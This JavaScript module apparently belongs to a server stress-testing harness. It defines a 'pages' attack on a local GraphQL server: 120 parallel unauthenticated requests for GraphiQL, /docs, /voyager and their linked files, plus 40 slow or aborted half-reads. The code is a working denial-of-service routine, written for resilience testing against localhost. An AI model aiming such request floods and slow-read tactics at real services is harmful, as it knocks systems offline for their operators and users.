import { connect } from 'node:net';
import { agentOf, attackerAddress, send } from '../client.mjs';

const encodings = ['br', 'gzip', 'gzip, br', 'identity'];
const parallel = 120;
const slowReaders = 40;

/** Paths of the files that a page references. */
const namedIn = (html, origin) =>
  [...html.matchAll(/(?:src|href)="([^"#]+)"/g)]
    .map(([, path]) => new URL(path, `${origin}/`))
    .filter((url) => url.origin === origin)
    .map((url) => url.pathname);

async function pathsOf({ origin }) {
  const agent = agentOf({ sockets: 4 });
  const found = new Set(['/graphql', '/docs', '/voyager']);
  for (const page of [...found]) {
    const { body } = await send(`${origin}${page}`, { agent, headers: { accept: 'text/html' } });
    for (const path of namedIn(body, origin)) found.add(path);
  }
  agent.destroy();
  return [...found];
}

/** Requests a page, then reads only a few bytes of it or closes the connection. */
function halfRead({ port, tally }, path, isAborted) {
  return new Promise((resolve) => {
    const socket = connect({ port, host: '127.0.0.1', localAddress: attackerAddress(1) });
    const close = () => socket.destroy();
    socket.on('error', close);
    socket.on('close', resolve);
    socket.on('connect', () => {
      tally.send();
      socket.write(
        `GET ${path} HTTP/1.1\r\nhost: 127.0.0.1:${port}\r\naccept: text/html\r\naccept-encoding: br\r\n\r\n`,
      );
    });
    socket.once('data', () => {
      tally.count(isAborted ? 'aborted' : 'not read');
      if (isAborted) close();
      else socket.pause();
    });
    setTimeout(close, isAborted ? 1_000 : 4_000).unref();
  });
}

async function ofWholePages(context, paths) {
  const { origin, endsAt, tally } = context;
  let turn = 0;
  const loop = async (connection) => {
    const agent = agentOf({ localAddress: attackerAddress(connection % 4) });
    while (Date.now() < endsAt) {
      turn += 1;
      const headers = { accept: 'text/html', 'accept-encoding': encodings[turn % encodings.length] };
      const path = turn % 3 === 0 ? paths[turn % paths.length] : '/graphql';
      tally.send();
      tally.add(await send(`${origin}${path}`, { agent, headers, method: turn % 20 === 0 ? 'HEAD' : 'GET' }));
    }
    agent.destroy();
  };
  await Promise.all(Array.from({ length: parallel }, (_, connection) => loop(connection)));
}

async function ofHalfPages(context, paths) {
  const loop = async (number) => {
    for (let turn = number; Date.now() < context.endsAt; turn += 1)
      await halfRead(context, turn % 2 === 0 ? '/graphql' : paths[turn % paths.length], turn % 3 !== 0);
  };
  await Promise.all(Array.from({ length: slowReaders }, (_, number) => loop(number)));
}

/** @type {import('../types.mjs').Attack} */
export const pages = {
  name: 'pages',
  row: '1',
  about: `GraphiQL, /docs, /voyager and their files, ${parallel} at a time, without sign-in; some aborted, some read slowly`,
  seconds: 20,
  short: 4,
  async run(context) {
    const paths = await pathsOf(context);
    await Promise.all([ofWholePages(context, paths), ofHalfPages(context, paths)]);
  },
};
